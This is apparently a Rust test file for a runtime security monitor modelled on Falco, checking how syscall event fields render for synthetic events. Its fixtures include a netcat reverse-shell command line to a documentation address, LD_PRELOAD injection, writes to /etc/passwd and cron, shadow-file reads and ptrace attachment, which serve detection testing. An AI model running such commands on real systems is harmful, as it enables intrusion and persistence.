//! Each family of fields.

use std::sync::Arc;

use monitor_common::signals::activity::Act;
use monitor_common::signals::exec::{FdKind, Stdio};

use super::{Host, activity, event, exec, holds, key, name, open, shown, socket};
use crate::detect::{Event, What};
use crate::signals::exec::{ExecFile, FUSE};

fn all(event: &Event, host: &Host, expected: &[(&str, &str)]) {
    for (field, value) in expected {
        assert_eq!(shown(field, event, host), *value, "{field}");
    }
}

#[test]
fn the_event_itself() {
    let host = Host::new();
    all(
        &open("/etc/passwd", libc::O_RDWR | libc::O_CREAT | libc::O_TRUNC),
        &host,
        &[
            ("evt.num", "7"),
            ("evt.type", "openat"),
            ("syscall.type", "openat"),
            ("evt.dir", "<"),
            ("evt.abi", "native"),
            ("evt.cpu", "1"),
            ("evt.category", "file"),
            ("evt.source", "syscall"),
            ("evt.hostname", "box"),
            ("evt.time", "22:15:00.000000000"),
            ("evt.datetime.s", "2023-11-14 22:15:00"),
            ("evt.time.iso8601", "2023-11-14T22:15:00.000000000Z"),
            ("evt.rawtime", "1700000100000000000"),
            ("evt.res", "SUCCESS"),
            ("evt.rawres", "5"),
            ("evt.failed", "false"),
            ("evt.is_open_read", "true"),
            ("evt.is_open_write", "true"),
            ("evt.is_open_create", "false"),
            ("evt.arg.flags", "O_TRUNC|O_CREAT|O_RDWR"),
            ("evt.arg.mode", "S_IROTH|S_IRGRP|S_IWUSR|S_IRUSR"),
            ("evt.arg.name", "/etc/passwd"),
            ("evt.arg.dirfd", "-100"),
            ("evt.rawarg.dirfd", "-100"),
            ("evt.arg.fd", "5"),
            ("evt.arg.oldpath", "<NA>"),
            ("evt.latency", "<NA>"),
            ("evt.arg[1]", "5"),
            (
                "evt.args",
                "res=5 fd=5 dirfd=-100 path=/etc/passwd name=/etc/passwd dev=8388609 flags=O_TRUNC|O_CREAT|O_RDWR mode=S_IROTH|S_IRGRP|S_IWUSR|S_IRUSR ino=42",
            ),
        ],
    );
    assert_eq!(shown("evt.type", &exec(|_| {}), &host), "execve");
    assert_eq!(shown("evt.arg.flags", &open("/x", 0), &host), "O_RDONLY");
    assert_eq!(shown("evt.is_open_read", &exec(|_| {}), &host), "<NA>");
}

#[test]
fn failed_calls_have_the_errors_name() {
    let host = Host::new();
    let event = activity(Act::FileOpen, "openat", |activity| {
        activity.result = -2;
        activity.name = name("../../etc//shadow", "/etc/shadow");
    });
    let expected = [
        ("evt.res", "ENOENT"),
        ("evt.rawres", "-2"),
        ("evt.failed", "true"),
        ("fd.num", "-1"),
        ("fd.typechar", "f"),
        ("fd.name", "/etc/shadow"),
        ("fd.nameraw", "../../etc//shadow"),
        ("fd.directory", "/etc"),
        ("fd.filename", "<NA>"),
        ("fs.path.name", "<NA>"),
        ("fd.original", "/etc/shadow"),
    ];
    all(&event, &host, &expected);
}

#[test]
fn the_process_of_an_exec() {
    let host = Host::new();
    let event = exec(|exec| {
        exec.tty = b"pts/3".to_vec();
        exec.session = 30;
        exec.process_group = 20;
        exec.file.upper_layer = true;
        exec.env = vec![(b"LD_PRELOAD".to_vec(), b"/tmp/x.so".to_vec())];
    });
    all(
        &event,
        &host,
        &[
            ("proc.name", "nc"),
            ("proc.exe", "nc"),
            ("proc.exepath", "/usr/bin/nc.traditional"),
            ("proc.args", "-e /bin/sh 192.0.2.1"),
            ("proc.cmdline", "nc -e /bin/sh 192.0.2.1"),
            ("proc.exeline", "nc -e /bin/sh 192.0.2.1"),
            ("proc.cmdnargs", "3"),
            ("proc.cmdlenargs", "18"),
            ("proc.cwd", "/dev/shm/"),
            ("proc.tty", "34819"),
            ("proc.pid", "30"),
            ("proc.sid", "30"),
            ("proc.is_sid_leader", "true"),
            ("proc.vpgid", "20"),
            ("proc.is_vpgid_leader", "false"),
            ("proc.duration", "70000000000"),
            ("proc.is_exe_upper_layer", "true"),
            ("proc.exe_ino", "77"),
            ("proc.env", "LD_PRELOAD=/tmp/x.so"),
            ("proc.env[LD_PRELOAD]", "/tmp/x.so"),
            ("proc.env[HOME]", "<NA>"),
            ("evt.arg.flags", "EXE_WRITABLE|EXE_UPPER_LAYER"),
            ("evt.arg.filename", "./nc"),
            ("proc.filename", "./nc"),
            ("proc.arglen", "24"),
            ("proc.exe.deleted", "true"),
            ("proc.exepath.of_root", "<NA>"),
            ("proc.exepath_before", "/usr/bin/dash"),
            ("proc.exepath_before.of_root", "/usr/bin/dash"),
            ("proc.aexepath.of_root[1]", "/usr/sbin/nginx"),
        ],
    );
    let host_with = |change: fn(&mut ExecFile)| {
        let mut host = Host::new();
        host.change(20, |process| change(&mut Arc::make_mut(&mut process.image).file));
        host.change(30, |process| change(&mut Arc::make_mut(&mut process.image).file));
        host
    };
    let event_with = |change: fn(&mut ExecFile)| {
        exec(|exec| {
            exec.file.links = 1;
            change(&mut exec.file);
        })
    };
    assert_eq!(shown("proc.exepath.of_root", &event_with(|_| ()), &host), "/usr/bin/nc.traditional");
    let changes: [fn(&mut ExecFile); 5] = [
        |file| file.owner = 1000,
        |file| file.mounted = true,
        |file| file.foreign_mounts = true,
        |file| file.magic = FUSE,
        |file| file.inode = 0,
    ];
    for change in changes {
        let (event, host) = (event_with(change), host_with(change));
        for field in ["proc.exepath.of_root", "proc.exepath_before.of_root", "proc.aexepath.of_root[1]"] {
            assert_eq!(shown(field, &event, &host), "<NA>", "{field}");
        }
    }
    assert_eq!(shown("proc.args", &exec(|exec| exec.args.truncate(1)), &host), "");
}

#[test]
fn standard_descriptors() {
    let host = Host::new();
    let event = exec(|exec| {
        let socket = Stdio {
            kind: FdKind::Inet as u32,
            family: libc::AF_INET as u16,
            inode: 99,
            peer_port: 4444,
            local_port: 50_000,
            peer: [192, 0, 2, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
            local: [10, 0, 0, 5, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
            ..Stdio::default()
        };
        let null = Stdio { kind: FdKind::Character as u32, device: 1 << 20 | 3, ..Stdio::default() };
        exec.stdio = [socket, null, Stdio { kind: FdKind::Pipe as u32, inode: 7, ..Stdio::default() }];
    });
    all(
        &event,
        &host,
        &[
            ("proc.stdin.type", "ipv4"),
            ("proc.stdin.sip", "192.0.2.1"),
            ("proc.stdin.rport", "4444"),
            ("proc.stdin.lip", "10.0.0.5"),
            ("proc.stdin.lport", "50000"),
            ("proc.stdin.inode", "99"),
            ("proc.stdout.type", "null"),
            ("proc.stdout.rip", "<NA>"),
            ("proc.stderr.type", "fifo"),
            ("proc.stderr.inode", "7"),
            ("fd.types", "ipv4,file,pipe"),
            ("fd.types[2]", "pipe"),
        ],
    );
    assert!(holds("fd.types intersects (ipv4, unix)", &event, &host));
    assert!(!holds("fd.types in (ipv4, file)", &event, &host), "all of a list have to be in it");
    // Where the exec was not seen, nothing is known.
    assert_eq!(shown("proc.stdin.type", &open("/x", 0), &host), "<NA>");
}

#[test]
fn ancestors_and_leaders() {
    let host = Host::new();
    let event = exec(|exec| {
        exec.session = 10;
        exec.process_group = 20;
    });
    all(
        &event,
        &host,
        &[
            ("proc.pname", "worker"),
            ("proc.pexe", "nginx: worker"),
            ("proc.pexepath", "/usr/sbin/nginx"),
            ("proc.pcmdline", "worker"),
            ("proc.ppid", "20"),
            ("proc.ppid.duration", "80000000000"),
            ("proc.aname[0]", "nc"),
            ("proc.aname[1]", "worker"),
            ("proc.aname[2]", "nginx"),
            ("proc.aname[3]", "systemd"),
            ("proc.aname[4]", "<NA>"),
            ("proc.aname", "worker,nginx,systemd"),
            ("proc.acmdline[2]", "nginx -g daemon off;"),
            ("proc.aexepath[3]", "/usr/lib/systemd/systemd"),
            ("proc.aexe[3]", "/sbin/init"),
            ("proc.apid[2]", "10"),
            ("proc.sname", "nginx"),
            ("proc.sid.exepath", "/usr/sbin/nginx"),
            ("proc.vpgid.name", "worker"),
            ("proc.loginshellid", "<NA>"),
        ],
    );
}

#[test]
fn a_known_process_does_something_else() {
    let mut host = Host::new();
    host.contain(30);
    all(
        &open("/etc/x", 0),
        &host,
        &[
            ("proc.name", "sh"),
            ("proc.cmdline", "sh -c id; uname -a"),
            ("proc.exepath", "/usr/bin/dash"),
            ("proc.pname", "worker"),
            ("thread.tid", "31"),
            ("thread.ismain", "false"),
            ("user.uid", "33"),
            ("user.name", "www-data"),
            ("user.homedir", "<NA>"),
            ("group.gid", "33"),
            ("group.name", "<NA>"),
            ("user.loginname", "<NA>"),
            ("container.id", "0123456789ab"),
            ("container.type", "docker"),
            ("container.name", "<NA>"),
            ("fd.containername", "0123456789ab:/etc/x"),
            ("container.image.repository", "<NA>"),
            ("k8s.ns.name", "<NA>"),
            ("thread.cgroups", "/docker/x"),
        ],
    );
    assert_eq!(shown("container.id", &open("/x", 0), &Host::new()), "host");
    assert_eq!(shown("user.name", &exec(|_| {}), &host), "root");
    let event = exec(|exec| exec.capabilities = 1 << 21 | 1);
    assert_eq!(shown("thread.cap_effective", &event, &host), "CAP_CHOWN CAP_SYS_ADMIN");
}

#[test]
fn files() {
    let mut host = Host::new();
    all(
        &open("/etc/cron.d/job", libc::O_WRONLY),
        &host,
        &[
            ("fd.num", "5"),
            ("fd.type", "file"),
            ("fd.typechar", "f"),
            ("fd.name", "/etc/cron.d/job"),
            ("fd.directory", "/etc/cron.d"),
            ("fd.filename", "job"),
            ("fd.ino", "42"),
            ("fd.dev", "8388609"),
            ("fd.dev.major", "8"),
            ("fd.dev.minor", "1"),
            ("fd.mode", "420"),
            ("fd.nlink", "1"),
            ("fd.original", "/etc/cron.d/job"),
            ("fd.created", "false"),
            ("fd.sip", "<NA>"),
            ("fs.path.name", "/etc/cron.d/job"),
            ("fs.path.source", "<NA>"),
        ],
    );
    assert_eq!(shown("fd.directory", &open("/x", 0), &host), "/");
    host.protected.push((42, b"/etc/shadow"));
    assert_eq!(shown("fd.original", &open("/tmp/link", 0), &host), "/etc/shadow");
}

#[test]
fn sockets() {
    let host = Host::new();
    let connect = activity(Act::Connect, "connect", |activity| {
        activity.socket = Some(socket());
        activity.args[0] = 3;
    });
    all(
        &connect,
        &host,
        &[
            ("fd.num", "3"),
            ("fd.type", "ipv4"),
            ("fd.typechar", "4"),
            ("fd.name", "10.0.0.5:40000->198.51.100.7:443"),
            ("fd.cip", "10.0.0.5"),
            ("fd.sip", "198.51.100.7"),
            ("fd.lport", "40000"),
            ("fd.rport", "443"),
            ("fd.l4proto", "tcp"),
            ("fd.sockfamily", "ip"),
            ("fd.is_server", "false"),
            ("fd.connected", "true"),
            ("fd.name_changed", "true"),
            ("fd.sip.name", "<NA>"),
            ("fd.directory", "<NA>"),
            ("evt.arg.tuple", "10.0.0.5:40000->198.51.100.7:443"),
        ],
    );
    let accept = activity(Act::Accept, "accept4", |activity| {
        activity.socket = Some(socket());
        activity.result = 8;
    });
    let expected = [("fd.num", "8"), ("fd.sip", "10.0.0.5"), ("fd.cport", "443"), ("fd.is_server", "true")];
    all(&accept, &host, &expected);
    let unix = activity(Act::Connect, "connect", |activity| {
        activity.socket = Some(Default::default());
        if let Some(socket) = &mut activity.socket {
            socket.family = libc::AF_UNIX as u16;
        }
        activity.path = b"/run/docker.sock".to_vec();
    });
    let expected = [("fd.type", "unix"), ("fd.name", "/run/docker.sock"), ("fd.sip", "<NA>"), ("fd.l4proto", "<NA>")];
    all(&unix, &host, &expected);
}

#[test]
fn paths_have_falcos_source_and_target() {
    let host = Host::new();
    let of = |act, call, result| {
        activity(act, call, |activity| {
            activity.result = result;
            activity.name = name("a", "/d/a");
            activity.other = name("b", "/d/b");
        })
    };
    let rename = of(Act::Rename, "renameat2", 0);
    all(&rename, &host, &[("fs.path.source", "/d/a"), ("fs.path.target", "/d/b"), ("fs.path.name", "<NA>")]);
    all(&rename, &host, &[("evt.arg.oldpath", "/d/a"), ("evt.arg.newpath", "/d/b"), ("fs.path.sourceraw", "a")]);
    let link = of(Act::Link, "linkat", 0);
    all(&link, &host, &[("fs.path.source", "/d/b"), ("fs.path.target", "/d/a"), ("evt.arg.newpath", "/d/b")]);
    let symlink = of(Act::Symlink, "symlink", 0);
    all(&symlink, &host, &[("fs.path.source", "/d/a"), ("evt.arg.target", "b"), ("evt.arg.linkpath", "/d/a")]);
    let unlink = of(Act::Unlink, "unlinkat", 0);
    all(&unlink, &host, &[("fs.path.name", "/d/a"), ("fs.path.nameraw", "a"), ("fd.name", "<NA>")]);
    // Of a call that failed Falco tells no paths, but its arguments.
    let failed = of(Act::Unlink, "unlinkat", -1);
    all(&failed, &host, &[("fs.path.name", "<NA>"), ("evt.arg.name", "/d/a"), ("evt.res", "EPERM")]);
}

#[test]
fn arguments_of_other_calls() {
    let host = Host::new();
    let of = |act, call, args: [u64; 6]| activity(act, call, |activity| activity.args = args);
    let ptrace = activity(Act::Ptrace, "ptrace", |activity| {
        activity.args = [16, 20, 0, 0, 0, 0];
        activity.target = Some(key(20));
    });
    let expected = [
        ("evt.arg.request", "PTRACE_ATTACH"),
        ("evt.arg.pid", "20"),
        ("target.pid", "20"),
        ("target.name", "worker"),
        ("target.exepath", "/usr/sbin/nginx"),
        ("target.user.uid", "33"),
        ("target.is_self", "false"),
        ("target.is_child", "false"),
        ("target.is_ancestor", "true"),
        ("target.is_observer", "false"),
    ];
    all(&ptrace, &host, &expected);
    let memory = open("/proc/20/mem", libc::O_RDWR);
    all(&memory, &host, &[("target.pid", "20"), ("target.is_ancestor", "true")]);
    all(&open("/proc/self/mem", 0), &host, &[("target.pid", "30"), ("target.is_self", "true")]);
    all(&open("/proc/sys/x", 0), &host, &[("target.pid", "<NA>"), ("target.is_self", "<NA>")]);
    all(&open("/proc/9/mem", 0), &host, &[("target.is_observer", "true"), ("target.name", "<NA>")]);
    all(
        &of(Act::Socket, "socket", [17, 3, 0x0300, 0, 0, 0]),
        &host,
        &[("evt.arg.domain", "AF_PACKET"), ("evt.arg.type", "SOCK_RAW"), ("evt.arg.proto", "768")],
    );
    all(&of(Act::Signal, "kill", [1, 9, 0, 0, 0, 0]), &host, &[("evt.arg.sig", "SIGKILL"), ("evt.arg.signum", "9")]);
    assert!(holds("evt.arg.sig = 9", &of(Act::Signal, "kill", [1, 9, 0, 0, 0, 0]), &host));
    assert!(holds("evt.arg.sig = SIGKILL", &of(Act::Signal, "tgkill", [1, 1, 9, 0, 0, 0]), &host));
    assert!(holds("evt.arg.sig >= 32", &of(Act::Signal, "kill", [1, 63, 0, 0, 0, 0]), &host));
    let chmod = of(Act::Chmod, "fchmodat", [0, 0, 0o4755, 0, 0, 0]);
    assert!(holds("evt.arg.mode contains S_ISUID and evt.arg.mode contains S_IXOTH", &chmod, &host));
    assert!(!holds("evt.arg.mode contains S_ISGID", &chmod, &host));
    all(
        &of(Act::SetIds, "setresuid", [u64::MAX, 0, 5, 0, 0, 0]),
        &host,
        &[("evt.arg.ruid", "-1"), ("evt.arg.euid", "0"), ("evt.arg.suid", "5")],
    );
    all(
        &of(Act::Unshare, "unshare", [0x1002_0000, 0, 0, 0, 0, 0]),
        &host,
        &[("evt.arg.flags", "CLONE_NEWNS|CLONE_NEWUSER")],
    );
    all(&of(Act::Bpf, "bpf", [5, 0, 0, 0, 0, 0]), &host, &[("evt.arg.cmd", "BPF_PROG_LOAD")]);
    all(
        &of(Act::MemoryExec, "mprotect", [0, 4096, 7, 0, 0, 0]),
        &host,
        &[("evt.arg.prot", "PROT_READ|PROT_WRITE|PROT_EXEC")],
    );
    all(&of(Act::Utimens, "utimensat", [0, 0, 1, 0, 0, 0]), &host, &[("evt.arg.times_set", "true")]);
}

#[test]
fn forks_and_ends() {
    let host = Host::new();
    let fork = event(20, What::Fork { child: key(30) });
    all(
        &fork,
        &host,
        &[("evt.type", "clone"), ("evt.rawres", "30"), ("target.name", "sh"), ("target.is_child", "true")],
    );
    let exit = event(20, What::Exit { status: Some(0x0300) });
    all(&exit, &host, &[("evt.type", "procexit"), ("evt.arg.ret", "3"), ("evt.res", "<NA>"), ("proc.name", "worker")]);
    let killed = event(20, What::Exit { status: Some(0x8b) });
    all(&killed, &host, &[("evt.arg.sig", "SIGSEGV"), ("evt.arg.core", "1")]);
}

#[test]
fn names_of_fields_are_there_once() {
    let mut names: Vec<&str> = super::super::fields::all().map(|definition| definition.name).collect();
    let count = names.len();
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), count);
}
